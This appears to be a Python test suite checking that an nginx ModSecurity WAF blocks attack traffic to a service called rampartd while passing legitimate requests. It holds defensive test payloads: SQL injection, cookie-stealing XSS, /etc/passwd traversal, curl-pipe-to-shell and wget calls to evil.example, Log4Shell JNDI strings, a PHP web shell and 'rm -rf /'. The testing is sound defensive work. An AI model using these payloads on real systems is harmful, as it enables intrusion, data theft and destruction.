"""nginx with ModSecurity and the OWASP Core Rule Set, as docs/guides/server-waf.md sets it up: attacks do not reach rampartd, and every
ordinary request does.
"""
import base64
import json
import secrets
import urllib.parse

from application import Application
from edge_nginx import Front, instances, reached
from party import Party
from world import PASSWORD, Client

JSON = {"Content-Type": "application/json"}
# Each is put where an application might read it.
PAYLOADS = {
    "SQL injection": ["1' OR '1'='1' -- ", "1 UNION SELECT username, password FROM users", "'; DROP TABLE users; --", "1 AND SLEEP(5)"],
    "cross-site scripting": ["<script>alert(1)</script>", "<img src=x onerror=alert(document.cookie)>", "javascript:alert(1)//<svg onload=alert(1)>"],
    "path traversal": ["../../../../etc/passwd", "..\\..\\..\\windows\\win.ini", "/etc/shadow"],
    "a shell's commands": ["; cat /etc/passwd", "$(curl http://evil.example/x.sh | sh)", "`wget http://evil.example/x`", "() { :;}; /bin/bash -c id"],
    "log4shell": ["${jndi:ldap://evil.example/a}", "${${lower:j}ndi:${lower:l}dap://evil.example/a}"],
    "a template of a page": ["<?php system($_GET['c']); ?>"],
}
AGENTS = ["sqlmap/1.7.2#stable (https://sqlmap.org)", "Nikto/2.1.6", "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
          "masscan/1.3", "Acunetix-Product", "gobuster/3.1"]
PATHS = ["/.git/config", "/.env", "/wp-config.php.bak", "/cgi-bin/test.cgi?x=/bin/sh"]
# Passwords that are as good as any.
HOSTILE = ["' OR 1=1 -- Aa1!", "<script>alert('Aa1')</script>", "${jndi:ldap://x/Aa1}!", "; cat /etc/passwd Aa1!", "../../../etc/passwd-Aa1!", "1 UNION SELECT * FROM Aa1!",
           "$(rm -rf /) `id` Aa1!", "<?php phpinfo(); ?> Aa1", "() { :;}; Aa1 /bin/bash", "%27%20OR%201%3D1 Aa1!", "pässwörd-ß-🔒-Aa1!-lang", "\"quoted\\back\\slash\" Aa1!",
           "&&whoami||Aa1!xyz#~^", "{{7*7}}${7*7}<%=7*7%> Aa1", "sleep(5);benchmark(1,Aa1)!"]


class Visitor(Client):
    """A client that calls the host by its name: rules suspect numbers."""

    def request(self, method, path, body=None, headers=None, raw=None):
        return super().request(method, path, body, {"Host": "app.example.com", **(headers or {})}, raw)


class GuardedFront(Front):
    def client(self, **kwargs):
        return Visitor(self, **kwargs)


def refused_by_rules(answer):
    """By nginx itself: what rampartd or the application answers is JSON."""
    return answer.status in (400, 403) and (answer.headers.get("Content-Type") or "").startswith("text/html")


def check(world, report):
    database = world.database("waf")
    servers = instances(world, database, 1, {"log": {"level": "trace"}, "lockout": {"failures_per_address": 100000, "failures": 100}})
    with Application() as application, GuardedFront(world, servers, application, rules="server-waf.md") as front:
        org, members = world.organisation(servers[0], "ADMIN")
        attacks(report, servers[0], front, members["OWNER"])
        passwords(world, report, database, servers[0], front)
        words(world, report, servers[0], front, org, members["OWNER"])
        every_route(world, report, servers[0], front)
        tokens(report, front, members["OWNER"])
        carried(report, front, members["ADMIN"])
        log = front.nginx.log()
    for server in servers:
        server.stop()
    report.ok("ModSecurity: Access denied" in log, "what is refused stands in nginx's log")
    report.equal([p for p in [*HOSTILE, PASSWORD] if p in log], [], "and no password")


def attacks(report, server, front, person):
    # Each with an id of its own, by which rampartd's log would know it.
    def passes(send):
        before = server.log().count('"event":"request"')
        answer = send(front.client(token=person.token))
        return None if refused_by_rules(answer) and server.log().count('"event":"request"') == before else answer

    for name, payloads in PAYLOADS.items():
        let = {}
        for payload in payloads:
            quoted = urllib.parse.quote(payload)
            let[f"query {payload}"] = passes(lambda c: c.get(f"/x?q={quoted}"))
            let[f"query of rampartd {payload}"] = passes(lambda c: c.get(f"/audit/events?event={quoted}"))
            let[f"body {payload}"] = passes(lambda c: c.post("/organisations", {"name": payload}))
            let[f"form {payload}"] = passes(lambda c: c.request("POST", "/x", raw=f"q={quoted}".encode(), headers={"Content-Type": "application/x-www-form-urlencoded"}))
            if name in ("log4shell",):
                let[f"header {payload}"] = passes(lambda c: c.get("/auth/me", headers={"User-Agent": payload}))
        report.equal({place: answer for place, answer in let.items() if answer is not None}, {}, f"{name}: refused in query, form and body, before anything behind sees it")
    let = {agent: passes(lambda c: c.get("/auth/me", headers={"User-Agent": agent})) for agent in AGENTS}
    report.equal({agent: answer for agent, answer in let.items() if answer is not None}, {}, "scanners are refused by what they call themselves")
    let = {path: passes(lambda c: c.get(path)) for path in PATHS}
    report.equal({path: answer for path, answer in let.items() if answer is not None}, {}, "so is the search for files that are none of ours")
    report.equal(passes(lambda c: c.request("PROPFIND", "/x")), None, "and a method that no route has")
    report.equal(passes(lambda c: c.post("/auth/login", raw=b'{"email": "a@example.com", "password": ', headers=JSON)), None, "and half a body")


def passwords(world, report, database, server, front):
    wrong = []

    def expect(what, password, answer, *statuses):
        if answer.status not in statuses or refused_by_rules(answer):
            wrong.append((what, password, answer))

    for password in HOSTILE:
        email = f"{secrets.token_hex(6)}@example.com"
        client = front.client()
        expect("sign-up", password, client.post("/auth/signup", {"email": email, "password": password, "name": "Anne O'Neill"}), 202)
        database.query("UPDATE rampart_auth.account SET status = 'active', email_verified_at = now() WHERE email = %s", (email,), "observer")
        expect("login", password, client.log_in(email, password, cookies=True), 200)
        csrf = {"X-CSRF-Token": client.csrf}
        expect("who I am", password, client.get("/auth/me"), 200)
        expect("step-up", password, client.post("/auth/mfa/step-up", {"password": password}, headers=csrf), 200)
        expect("change", password, client.post("/auth/password/change", {"old_password": password, "new_password": password[::-1]}, headers=csrf), 204)
        client.post("/auth/password/forgot", {"email": email}, headers=csrf)
        token = world.mailed_token(database, email, "password-reset")
        expect("reset", password, front.client().post("/auth/password/reset", {"token": token, "new_password": f"{password} and more"}), 204)
        expect("login again", password, front.client().log_in(email, f"{password} and more"), 200)
        expect("a wrong one", password, front.client().log_in(email, password), 401)
    report.equal(wrong, [], f"{len(HOSTILE)} passwords with all sorts of characters are signed up, logged in, changed and reset by")
    admin = world.admin(server)
    through = front.client(token=admin.token)
    relay = {"mail.host": "smtp.example.com", "mail.from": "A <a@example.com>", "mail.username": "x", "mail.password": HOSTILE[0]}
    report.equal((through.patch("/admin/settings", relay).status, through.put("/admin/settings/lockout.minutes", {"value": 20}).status,
                  through.delete("/admin/settings/lockout.minutes").status), (204, 204, 204), "settings are changed, a relay's password among them")
    answer = through.put("/admin/settings/mail.password", {"value": HOSTILE[1]})
    report.equal(answer.status, 204, "also by itself")


def words(world, report, server, front, org, owner):
    """Names and rules as people write them."""
    client = front.client(token=owner.token, org=org)
    names = ["O'Reilly & Sons, Ltd.", "Müller GmbH & Co. KG", "Select Committee on Unions", "株式会社ランパート", "R&D (Berlin/Munich) – 50% off!", "C++ users; C# too", "Drop Table Tennis Club"]
    answers = {name: client.post("/organisations", {"name": name}) for name in names}
    report.equal({name: answer for name, answer in answers.items() if answer.status != 201}, {}, "organisations are called as they are")
    answers = {name: client.post(f"/organisations/{org}/teams", {"name": name}) for name in names}
    report.equal({name: answer for name, answer in answers.items() if answer.status != 201}, {}, "and teams")
    admin = front.client(token=world.admin(server).token)
    rules = [["MEMBER", "report", "approve", "own"], ["MEMBER", "document", "*", "own"], ["r.sub.Age > 18 && r.obj.Owner == r.sub.Name", "document", "read", "all"],
             ["keyMatch2(r.obj, \"/api/:id\")", "document", "read", "all"], ["g(r.sub, p.sub, r.dom) && r.dom == p.dom", "report", "read", "own"],
             ["regexMatch(r.obj, \"^/docs/.*$\") || r.act in ('read', 'write')", "report", "read", "own"], ["ipMatch(r.ip, \"10.0.0.0/8\")", "report", "read", "all"]]
    answers = {rule[0]: admin.post("/rbac/rules", {"type": "p", "rule": rule}) for rule in rules}
    report.equal({rule: answer for rule, answer in answers.items() if refused_by_rules(answer)}, {}, "rules have matchers in them")
    report.equal(client.post("/rbac/explain", {"role": "MEMBER", "resource": "report", "action": "approve", "whose": "own"}).status, 200, "and are explained")
    queries = [f"/audit/events?since={urllib.parse.quote('2026-01-01T00:00:00+01:00')}", "/audit/events?limit=5", "/auth/verify?resource=document&action=read"]
    answers = {query: client.get(query) for query in queries}
    report.equal({query: answer for query, answer in answers.items() if refused_by_rules(answer)}, {}, "queries pass")


def every_route(world, report, server, front):
    """A body that each takes, by an administrator; what rampartd says of it is another suite's matter."""
    from walk import Walk, bearer
    walk = Walk(Party(world, server))
    root = world.admin(server)
    client = front.client(token=root.token)
    wrong = []
    for operation in walk.operations:
        answer = client.request(operation.method, walk.path(operation), walk.body(operation))
        if refused_by_rules(answer):
            wrong.append((operation.name, answer))
    report.equal(wrong, [], f"each of {len(walk.operations)} routes is reached with a body that it takes")


def tokens(report, front, owner):
    """Random text in base64, which by chance has anything in it."""
    wrong = []
    for _ in range(60):
        token = secrets.token_urlsafe(32)
        long = base64.b64encode(secrets.token_bytes(300)).decode()
        client = front.client(token=f"{token}.{long}.{token}")
        jar = front.client()
        jar.cookies = {"__Host-rampart_access": long.rstrip("="), "__Host-rampart_refresh": token, "__Host-rampart_csrf": token, "__Host-rampart_device": token}
        answers = [client.get("/auth/me"), jar.get("/auth/me"), front.client().post("/auth/refresh", {"refresh_token": token}),
                   front.client().post("/auth/verify-email", {"token": token}), front.client().post("/auth/mfa", {"session_id": token, "totp_code": "123456"}),
                   front.client(api_key=f"rmp_{token}").get("/auth/me")]
        wrong += [answer for answer in answers if refused_by_rules(answer)]
    report.equal(wrong, [], "tokens, keys and cookies pass, whatever chance has put in them")


def carried(report, front, person):
    elsewhere = front.client()
    elsewhere.connection = front.connection(source="127.0.0.3")
    elsewhere.log_in(person.email)
    addresses = {session["ip"] for session in elsewhere.get("/auth/sessions", headers={"X-Forwarded-For": "10.9.9.9"}).body["items"] if session["current"]}
    report.equal(addresses, {"127.0.0.3"}, "rampartd knows the client's address, and does not take the client's word for it")
    answer = front.client(token=person.token).request("POST", "/x?q=1", raw=json.dumps({"text": "x" * 20_000}).encode())
    report.ok(answer.status == 200 and answer.body["method"] == "POST", "the application is reached", answer)
    report.ok(reached(front.client(token=person.token).get("/x")), "by who is logged in")
    report.equal(front.client().get("/x").status, 401, "and by nobody else")
